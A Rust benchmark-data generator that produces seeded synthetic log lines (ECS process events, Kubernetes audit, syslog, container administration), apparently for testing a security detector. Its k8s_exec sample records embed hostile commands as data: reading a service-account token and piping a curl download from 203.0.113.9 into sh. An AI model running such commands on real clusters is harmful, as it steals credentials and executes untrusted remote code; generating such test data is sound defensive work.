//! Deterministic corpus of mixed log records (JSON lines) for the benchmarks.
//!
//! Mix (by record count, see [`Kind`]):
//! - 45 % ECS process starts of ordinary programs (ls, grep, git, python3, systemctl, curl, java, ...),
//!   shaped like Elastic Endpoint / Auditbeat events (`core/fixtures/ecs/routine.benign.jsonl`);
//! - 27 % Kubernetes audit events from the control plane and kubelets (lease get/update, configmap,
//!   endpoint and pod get/list/watch), shaped like
//!   `shared/data/negatives/elastic_integrations_k8s_audit/test-audit.log`;
//! - 25 % syslog-ish JSON lines (sshd, CRON, systemd, kernel, nginx access log in `message`);
//! - 3 % container administration: the records of `core/fixtures/**/*.jsonl` (docker/kubectl/crictl/
//!   nsenter exec, privileged runs, host mounts, routine `docker ps` ...; `_expect` removed) and
//!   Kubernetes audit `pods/exec` requests.
//!
//! The generator is seeded (splitmix64), so every run benchmarks the same bytes.

use std::path::Path;

/// splitmix64: small, fast, deterministic.
pub struct Rng(u64);

impl Rng {
    pub fn new(seed: u64) -> Self {
        Rng(seed)
    }
    pub fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }
    pub fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }
    pub fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len() as u64) as usize]
    }
}

/// What a generated record is.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Kind {
    EcsProcess,
    K8sAudit,
    Syslog,
    ContainerAdmin,
}

impl Kind {
    pub const ALL: [Kind; 4] = [
        Kind::EcsProcess,
        Kind::K8sAudit,
        Kind::Syslog,
        Kind::ContainerAdmin,
    ];
    pub fn name(self) -> &'static str {
        match self {
            Kind::EcsProcess => "ECS process start (benign)",
            Kind::K8sAudit => "Kubernetes audit (benign)",
            Kind::Syslog => "syslog-ish JSON (benign)",
            Kind::ContainerAdmin => "container administration",
        }
    }
}

/// Generates records one at a time.
pub struct Generator {
    rng: Rng,
    admin: Vec<String>,
    millis: u64,
}

const USERS: &[(&str, u32)] = &[
    ("alice", 1001),
    ("bob", 1002),
    ("deploy", 1100),
    ("root", 0),
    ("www-data", 33),
    ("postgres", 113),
    ("jenkins", 1200),
    ("carol", 1003),
];
const SHELLS: &[(&str, &str, &str)] = &[
    ("bash", "/usr/bin/bash", "-bash"),
    ("sh", "/usr/bin/sh", "/bin/sh -c /etc/cron.daily/run"),
    ("sshd", "/usr/sbin/sshd", "sshd: deploy@pts/0"),
    ("systemd", "/usr/lib/systemd/systemd", "/sbin/init splash"),
    ("python3", "/usr/bin/python3", "python3 /opt/app/worker.py"),
];
/// Ordinary programs: executable and argument vectors.
const PROGRAMS: &[(&str, &[&str])] = &[
    ("/usr/bin/ls", &["ls", "-la", "/var/log/nginx"]),
    (
        "/usr/bin/grep",
        &["grep", "-rn", "ERROR", "/var/log/app/server.log"],
    ),
    (
        "/usr/bin/git",
        &["git", "pull", "--ff-only", "origin", "main"],
    ),
    ("/usr/bin/git", &["git", "status", "--porcelain"]),
    (
        "/usr/bin/python3",
        &["python3", "/opt/app/manage.py", "migrate", "--noinput"],
    ),
    (
        "/usr/bin/systemctl",
        &["systemctl", "status", "nginx.service"],
    ),
    (
        "/usr/bin/curl",
        &["curl", "-fsS", "https://status.example.com/healthz"],
    ),
    (
        "/usr/bin/tar",
        &["tar", "czf", "/backup/www-2026-11-20.tgz", "/var/www"],
    ),
    (
        "/usr/bin/ssh",
        &[
            "ssh",
            "-o",
            "BatchMode=yes",
            "deploy@web-03.corp.example",
            "uptime",
        ],
    ),
    (
        "/usr/bin/java",
        &[
            "java",
            "-Xmx2g",
            "-jar",
            "/opt/billing/billing-service.jar",
            "--spring.profiles.active=prod",
        ],
    ),
    ("/usr/bin/node", &["node", "/srv/frontend/server.js"]),
    (
        "/usr/bin/psql",
        &[
            "psql",
            "-U",
            "postgres",
            "-d",
            "orders",
            "-c",
            "VACUUM ANALYZE",
        ],
    ),
    (
        "/usr/bin/find",
        &["find", "/tmp", "-type", "f", "-mtime", "+7", "-delete"],
    ),
    (
        "/usr/bin/journalctl",
        &["journalctl", "-u", "sshd", "--since", "1 hour ago"],
    ),
    ("/usr/sbin/logrotate", &["logrotate", "/etc/logrotate.conf"]),
    ("/usr/bin/du", &["du", "-sh", "/var/lib/postgresql"]),
    ("/usr/bin/cat", &["cat", "/etc/hosts"]),
    (
        "/usr/bin/sed",
        &["sed", "-i", "s/^#Port 22/Port 22/", "/etc/ssh/sshd_config"],
    ),
    ("/usr/bin/awk", &["awk", "-F:", "{print $1}", "/etc/passwd"]),
    (
        "/usr/bin/apt-get",
        &["apt-get", "install", "-y", "--no-install-recommends", "jq"],
    ),
    (
        "/usr/bin/rsync",
        &[
            "rsync",
            "-az",
            "--delete",
            "/srv/static/",
            "backup@10.0.4.20:/srv/static/",
        ],
    ),
    ("/usr/bin/make", &["make", "-j4", "build"]),
    ("/usr/bin/cargo", &["cargo", "build", "--release"]),
    (
        "/usr/bin/pip3",
        &["pip3", "install", "--user", "requests==2.32.3"],
    ),
    ("/usr/bin/sleep", &["sleep", "30"]),
    ("/usr/bin/vim", &["vim", "/etc/nginx/sites-enabled/default"]),
    ("/usr/bin/top", &["top", "-b", "-n", "1"]),
    ("/usr/sbin/nginx", &["nginx", "-s", "reload"]),
    (
        "/usr/bin/openssl",
        &["openssl", "s_client", "-connect", "api.example.com:443"],
    ),
    (
        "/usr/bin/jq",
        &["jq", ".items[].metadata.name", "/tmp/out.json"],
    ),
];
const K8S_ACTORS: &[(&str, &str, &[&str])] = &[
    (
        "system:kube-controller-manager",
        "kube-controller-manager/v1.29.2 (linux/amd64) kubernetes/4b8e819/leader-election",
        &["system:authenticated"],
    ),
    (
        "system:kube-scheduler",
        "kube-scheduler/v1.29.2 (linux/amd64) kubernetes/4b8e819/leader-election",
        &["system:authenticated"],
    ),
    (
        "system:serviceaccount:kube-system:elastic-agent",
        "elastic-agent/v0.0.0 (linux/amd64) kubernetes/$Format",
        &[
            "system:serviceaccounts",
            "system:serviceaccounts:kube-system",
            "system:authenticated",
        ],
    ),
    (
        "system:serviceaccount:kube-system:coredns",
        "coredns/v1.11.1 (linux/amd64) kubernetes/4b8e819",
        &[
            "system:serviceaccounts",
            "system:serviceaccounts:kube-system",
            "system:authenticated",
        ],
    ),
    (
        "system:serviceaccount:monitoring:prometheus",
        "prometheus/v2.51.0",
        &[
            "system:serviceaccounts",
            "system:serviceaccounts:monitoring",
            "system:authenticated",
        ],
    ),
];
/// (verb, resource, apiGroup, namespace, name)
const K8S_REQUESTS: &[(&str, &str, &str, &str, &str)] = &[
    (
        "get",
        "leases",
        "coordination.k8s.io",
        "kube-system",
        "kube-controller-manager",
    ),
    (
        "update",
        "leases",
        "coordination.k8s.io",
        "kube-system",
        "kube-scheduler",
    ),
    (
        "get",
        "leases",
        "coordination.k8s.io",
        "kube-node-lease",
        "ip-10-0-12-7.ec2.internal",
    ),
    (
        "get",
        "configmaps",
        "",
        "kube-system",
        "extension-apiserver-authentication",
    ),
    ("list", "endpoints", "", "default", ""),
    ("watch", "pods", "", "monitoring", ""),
    ("get", "pods", "", "default", "my-pod"),
    ("list", "nodes", "", "", ""),
];
const SYSLOG: &[(&str, &str, &str)] = &[
    ("sshd", "auth", "Accepted publickey for deploy from 10.0.{a}.{b} port {port} ssh2: ED25519 SHA256:q8Xk3cR0mYbJkPZ1aW9o"),
    ("sshd", "auth", "Disconnected from user deploy 10.0.{a}.{b} port {port}"),
    ("CRON", "cron", "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)"),
    ("systemd", "daemon", "Started Daily apt download activities (apt-daily.service)."),
    ("systemd", "daemon", "logrotate.service: Deactivated successfully."),
    ("kernel", "kern", "TCP: request_sock_TCP: Possible SYN flooding on port {port}. Sending cookies."),
    ("nginx", "local7", "10.0.{a}.{b} - - [20/Nov/2026:10:15:02 +0000] \"GET /static/app.{b}.js HTTP/1.1\" 200 48213 \"-\" \"Mozilla/5.0 (X11; Linux x86_64)\""),
    ("nginx", "local7", "10.0.{a}.{b} - - [20/Nov/2026:10:15:02 +0000] \"POST /api/v1/orders HTTP/1.1\" 201 312 \"-\" \"okhttp/4.12.0\""),
    ("postgres", "local0", "LOG:  checkpoint complete: wrote {a} buffers (0.1%); 0 WAL file(s) added, 0 removed, 1 recycled"),
];

impl Generator {
    /// A generator seeded with `seed`, taking container-administration records from `fixtures`
    /// (`core/fixtures`: every `*.jsonl`, `_expect` removed).
    pub fn new(seed: u64, fixtures: &Path) -> Generator {
        let mut admin = Vec::new();
        collect_fixtures(fixtures, &mut admin);
        admin.sort();
        assert!(
            !admin.is_empty(),
            "no fixtures found under {}",
            fixtures.display()
        );
        Generator {
            rng: Rng::new(seed),
            admin,
            millis: 1_763_633_702_113,
        }
    }

    /// Number of fixture records available as container-administration records.
    pub fn fixture_records(&self) -> usize {
        self.admin.len()
    }

    /// Appends one record (no newline) to `out` and says what it is.
    pub fn record(&mut self, out: &mut String) -> Kind {
        self.millis += 1 + self.rng.below(40);
        let roll = self.rng.below(100);
        let kind = match roll {
            0..=44 => Kind::EcsProcess,
            45..=71 => Kind::K8sAudit,
            72..=96 => Kind::Syslog,
            _ => Kind::ContainerAdmin,
        };
        match kind {
            Kind::EcsProcess => self.ecs(out),
            Kind::K8sAudit => self.k8s(out),
            Kind::Syslog => self.syslog(out),
            Kind::ContainerAdmin => {
                if self.rng.below(5) == 0 {
                    self.k8s_exec(out)
                } else {
                    let i = self.rng.below(self.admin.len() as u64) as usize;
                    out.push_str(&self.admin[i]);
                }
            }
        }
        kind
    }

    /// `n` records as lines (newline-terminated) and their kinds.
    pub fn lines(&mut self, n: usize) -> (Vec<String>, Vec<Kind>) {
        let mut lines = Vec::with_capacity(n);
        let mut kinds = Vec::with_capacity(n);
        for _ in 0..n {
            let mut s = String::with_capacity(700);
            kinds.push(self.record(&mut s));
            lines.push(s);
        }
        (lines, kinds)
    }

    fn timestamp(&self) -> String {
        // 2026-11-20 plus the running milliseconds (a plain clock, good enough for logs).
        let ms = self.millis % 86_400_000;
        format!(
            "2026-11-20T{:02}:{:02}:{:02}.{:03}Z",
            ms / 3_600_000,
            ms / 60_000 % 60,
            ms / 1000 % 60,
            ms % 1000
        )
    }

    fn host(&mut self) -> String {
        format!("node-{}", 1 + self.rng.below(40))
    }

    fn ecs(&mut self, out: &mut String) {
        let (exe, args) = *self.rng.pick(PROGRAMS);
        let (user, uid) = *self.rng.pick(USERS);
        let (pname, pexe, pcmd) = *self.rng.pick(SHELLS);
        let name = exe.rsplit('/').next().unwrap();
        let args_json: Vec<String> = args.iter().map(|a| json_str(a)).collect();
        let command_line = args.join(" ");
        let home = if user == "root" {
            "/root".to_string()
        } else {
            format!("/home/{user}")
        };
        out.push_str(&format!(
            concat!(
                r#"{{"@timestamp":"{ts}","event":{{"kind":"event","category":["process"],"type":["start"],"action":"exec","dataset":"endpoint.events.process"}},"#,
                r#""host":{{"name":"{host}","os":{{"type":"linux","family":"debian"}}}},"user":{{"name":"{user}","id":"{uid}"}},"#,
                r#""process":{{"pid":{pid},"executable":"{exe}","name":"{name}","args":[{args}],"command_line":{cmd},"working_directory":"{home}","#,
                r#""parent":{{"pid":{ppid},"name":"{pname}","executable":"{pexe}","command_line":{pcmd}}}}},"agent":{{"type":"endpoint","version":"8.15.0"}}}}"#
            ),
            ts = self.timestamp(),
            host = self.host(),
            user = user,
            uid = uid,
            pid = 1000 + self.rng.below(60000),
            exe = exe,
            name = name,
            args = args_json.join(","),
            cmd = json_str(&command_line),
            home = home,
            ppid = 300 + self.rng.below(5000),
            pname = pname,
            pexe = pexe,
            pcmd = json_str(pcmd),
        ));
    }

    fn k8s(&mut self, out: &mut String) {
        let (user, agent, groups) = *self.rng.pick(K8S_ACTORS);
        let (verb, resource, group, ns, name) = *self.rng.pick(K8S_REQUESTS);
        let base = if group.is_empty() {
            "/api/v1".to_string()
        } else {
            format!("/apis/{group}/v1")
        };
        let mut uri = base;
        if !ns.is_empty() {
            uri.push_str(&format!("/namespaces/{ns}"));
        }
        uri.push('/');
        uri.push_str(resource);
        if !name.is_empty() {
            uri.push('/');
            uri.push_str(name);
        }
        if verb == "watch" {
            uri.push_str(
                "?allowWatchBookmarks=true&resourceVersion=48213&timeout=7m21s&watch=true",
            );
        }
        let groups: Vec<String> = groups.iter().map(|g| json_str(g)).collect();
        let ts = self.timestamp().replace('Z', "123Z");
        out.push_str(&format!(
            concat!(
                r#"{{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"{id:08x}-5c2e-4f0b-9a61-{id2:012x}","stage":"ResponseComplete","#,
                r#""requestURI":"{uri}","verb":"{verb}","user":{{"username":"{user}","groups":[{groups}]}},"sourceIPs":["10.0.{a}.{b}"],"userAgent":"{agent}","#,
                r#""objectRef":{{"resource":"{resource}","namespace":"{ns}","name":"{name}","apiGroup":"{group}","apiVersion":"v1"}},"responseStatus":{{"metadata":{{}},"code":200}},"#,
                r#""requestReceivedTimestamp":"{ts}","stageTimestamp":"{ts}","annotations":{{"authorization.k8s.io/decision":"allow","authorization.k8s.io/reason":""}}}}"#
            ),
            id = self.rng.next() as u32,
            id2 = self.rng.next() & 0xffff_ffff_ffff,
            uri = uri,
            verb = verb,
            user = user,
            groups = groups.join(","),
            a = self.rng.below(256),
            b = self.rng.below(256),
            agent = agent,
            resource = resource,
            ns = ns,
            name = name,
            group = group,
            ts = ts,
        ));
    }

    fn k8s_exec(&mut self, out: &mut String) {
        let (user, cmd) = *self.rng.pick(&[
            ("alice@corp.example", "command=%2Fbin%2Fsh&container=web&stdin=true&stdout=true&tty=true"),
            ("ci-runner", "command=cat&command=%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken&container=app&stdout=true"),
            ("bob@corp.example", "command=bash&command=-c&command=curl+http%3A%2F%2F203.0.113.9%2Fx.sh%7Csh&container=api&stdin=true&stdout=true"),
        ]);
        let ts = self.timestamp();
        out.push_str(&format!(
            concat!(
                r#"{{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Request","auditID":"{id:08x}-77aa-4c1d-8e0e-2b5f0c9d1e21","stage":"ResponseStarted","#,
                r#""requestURI":"/api/v1/namespaces/prod/pods/payments-6b7c9/exec?{cmd}","verb":"create","user":{{"username":"{user}","groups":["system:authenticated"]}},"#,
                r#""sourceIPs":["10.0.{a}.{b}"],"userAgent":"kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819","objectRef":{{"resource":"pods","namespace":"prod","name":"payments-6b7c9","apiVersion":"v1","subresource":"exec"}},"#,
                r#""responseStatus":{{"metadata":{{}},"code":101}},"requestReceivedTimestamp":"{ts}","stageTimestamp":"{ts}","annotations":{{"authorization.k8s.io/decision":"allow","authorization.k8s.io/reason":"RBAC: allowed by ClusterRoleBinding \"admins\" of ClusterRole \"cluster-admin\" to User \"{user}\""}}}}"#
            ),
            id = self.rng.next() as u32,
            cmd = cmd,
            user = user,
            a = self.rng.below(256),
            b = self.rng.below(256),
            ts = ts,
        ));
    }

    fn syslog(&mut self, out: &mut String) {
        let (prog, facility, template) = *self.rng.pick(SYSLOG);
        let message = template
            .replace("{a}", &self.rng.below(256).to_string())
            .replace("{b}", &self.rng.below(256).to_string())
            .replace("{port}", &(1024 + self.rng.below(64000)).to_string());
        let severity = if prog == "kernel" { "warning" } else { "info" };
        out.push_str(&format!(
            concat!(
                r#"{{"@timestamp":"{ts}","host":{{"hostname":"{host}"}},"log":{{"syslog":{{"facility":{{"name":"{facility}"}},"severity":{{"name":"{severity}"}}}}}},"#,
                r#""process":{{"name":"{prog}","pid":{pid}}},"event":{{"dataset":"system.syslog","module":"system"}},"message":{message}}}"#
            ),
            ts = self.timestamp(),
            host = self.host(),
            facility = facility,
            severity = severity,
            prog = prog,
            pid = 100 + self.rng.below(40000),
            message = json_str(&message),
        ));
    }
}

/// A JSON string literal.
pub fn json_str(s: &str) -> String {
    serde_json::to_string(s).unwrap()
}

fn collect_fixtures(dir: &Path, out: &mut Vec<String>) {
    let Ok(entries) = std::fs::read_dir(dir) else {
        return;
    };
    for entry in entries.flatten() {
        let path = entry.path();
        if path.is_dir() {
            collect_fixtures(&path, out);
        } else if path.extension().is_some_and(|e| e == "jsonl") {
            let text = std::fs::read_to_string(&path).unwrap();
            for line in text.lines().filter(|l| !l.trim().is_empty()) {
                if let Some(record) = strip_expect(line) {
                    out.push(record);
                }
            }
        }
    }
}

/// The record without its `"_expect"` key (the original bytes otherwise); `None` if not JSON.
fn strip_expect(line: &str) -> Option<String> {
    serde_json::from_str::<serde_json::Value>(line).ok()?;
    let Some(start) = line.find(",\"_expect\":") else {
        return Some(line.to_string());
    };
    let bytes = line.as_bytes();
    let (mut depth, mut in_str, mut esc) = (0i32, false, false);
    let mut i = start + ",\"_expect\":".len();
    while i < bytes.len() {
        let c = bytes[i];
        if in_str {
            match (esc, c) {
                (true, _) => esc = false,
                (false, b'\\') => esc = true,
                (false, b'"') => in_str = false,
                _ => {}
            }
        } else {
            match c {
                b'"' => in_str = true,
                b'{' | b'[' => depth += 1,
                b'}' | b']' => {
                    depth -= 1;
                    if depth == 0 {
                        let stripped = format!("{}{}", &line[..start], &line[i + 1..]);
                        serde_json::from_str::<serde_json::Value>(&stripped).ok()?;
                        return Some(stripped);
                    }
                }
                _ => {}
            }
        }
        i += 1;
    }
    None
}
